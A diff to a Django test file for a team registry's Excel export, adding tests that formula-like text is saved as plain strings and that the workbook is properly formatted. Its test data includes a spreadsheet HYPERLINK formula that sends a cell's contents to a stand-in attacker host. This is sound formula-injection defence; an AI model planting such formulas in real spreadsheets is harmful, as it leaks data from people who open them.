@@ -2,8 +2,8 @@
 
 import re
 import threading
-from datetime import date, timedelta
-from io import BytesIO
+from datetime import date, datetime, timedelta
+from urllib.parse import unquote
 
 import pytest
 from django.core import mail
@@ -11,7 +11,6 @@ from django.core.exceptions import PermissionDenied, ValidationError
 from django.db import close_old_connections
 from django.urls import reverse
 from django.utils import timezone
-from openpyxl import load_workbook
 
 from audit.models import AuditEvent
 from teams.models import Member, Team
@@ -27,6 +26,7 @@ from teams.services import (
     team_resubmit,
 )
 from tests.factories import UserFactory, make_campaign
+from tests.workbooks import download, sheet_of, sheet_xml, workbook_of
 
 pytestmark = pytest.mark.django_db
 
@@ -258,10 +258,79 @@ def test_the_export_matches_the_list_filters(client, tree, role_users):
     register(UserFactory(), tree.grassroots_a1, name="张家班", industry="B")
     client.force_login(role_users["staff_unit"])
     response = client.get(reverse("teams:export"), {"industry": "C"})
-    sheet = load_workbook(BytesIO(response.content)).active
+    sheet = sheet_of(response)
     rows = list(sheet.iter_rows(values_only=True))
     assert rows[0][0] == "班组名称"
     assert [row[0] for row in rows[1:]] == ["安全班"]
+
+
+FORMULA_LIKE = [
+    '=HYPERLINK("http://evil.example/?x="&A2,"点此查看")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1)",
+    "\t=1",
+    "\r=1",
+]
+
+
+def test_team_text_is_exported_as_text_never_as_a_formula(client, tree, role_users):
+    for text in FORMULA_LIKE:
+        team_register(
+            actor=UserFactory(),
+            grassroots_union=tree.grassroots_a1,
+            name=text,
+            enterprise=text,
+            region=text,
+            industry="C",
+        )
+    client.force_login(role_users["staff_unit"])
+    data = download(client.get(reverse("teams:export")))
+    assert "<f>" not in sheet_xml(data) and "<f " not in sheet_xml(data)
+    sheet = workbook_of(data).active
+    exported = {row[0].value: row for row in sheet.iter_rows(min_row=2)}
+    # A carriage return comes back as the line feed XML turns it into (Excel's line break in a cell).
+    expected = [text.replace("\r", "\n") for text in FORMULA_LIKE]
+    assert sorted(exported) == sorted(expected)
+    for text in expected:
+        name, enterprise, _union, _industry, region = exported[text][:5]
+        assert name.data_type == enterprise.data_type == region.data_type == "s"
+        assert enterprise.value == region.value == text
+
+
+def test_the_team_export_is_a_formatted_workbook_with_a_chinese_name(client, tree, role_users):
+    team = register(UserFactory(), tree.grassroots_a1, name="赵梦桃小组", founded_on=date(1952, 5, 1))
+    client.force_login(role_users["staff_unit"])
+    response = client.get(reverse("teams:export"))
+    assert unquote(response["Content-Disposition"].split("''", 1)[1]) == f"班组名单-{timezone.localdate():%Y%m%d}.xlsx"
+    assert response["Cache-Control"] == "private, no-store"
+    sheet = sheet_of(response)
+    header = [cell.value for cell in sheet[1]]
+    assert header == [
+        "班组名称",
+        "所在单位",
+        "基层工会",
+        "行业",
+        "地区",
+        "类别",
+        "成立日期",
+        "在册人数",
+        "状态",
+        "登记时间",
+    ]
+    assert all(cell.font.b for cell in sheet[1])
+    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:J2"
+    # Every header fits its column (a Chinese character is two wide), and a column of names is wider still.
+    for cell in sheet[1]:
+        assert sheet.column_dimensions[cell.column_letter].width >= 2 * len(cell.value) + 2
+    assert sheet.column_dimensions["A"].width >= 20 and sheet.column_dimensions["C"].width >= 20
+    row = dict(zip(header, sheet[2], strict=True))
+    assert row["班组名称"].value == "赵梦桃小组" and row["状态"].value == "待审核" and row["行业"].value == "C 制造业"
+    assert row["成立日期"].is_date and row["成立日期"].value == datetime(1952, 5, 1)
+    assert row["成立日期"].number_format == "yyyy-mm-dd"
+    registered = timezone.localtime(team.created_at).replace(tzinfo=None, second=0, microsecond=0)
+    assert row["登记时间"].is_date and row["登记时间"].value.replace(second=0, microsecond=0) == registered
+    assert row["在册人数"].data_type == "n"
 
 
 @pytest.mark.parametrize("rows", [1, 3])
@@ -282,7 +351,7 @@ def test_export_query_count(client, tree, role_users, django_assert_num_queries,
     client.force_login(role_users["staff_unit"])
     with django_assert_num_queries(4):  # session, user, roles, the rows
         response = client.get(reverse("teams:export"))
-    assert len(list(load_workbook(BytesIO(response.content)).active.iter_rows())) == rows + 1
+    assert len(list(sheet_of(response).iter_rows())) == rows + 1
 
 
 def test_a_member_phone_never_reaches_the_export_or_the_team_page(client, tree, role_users):
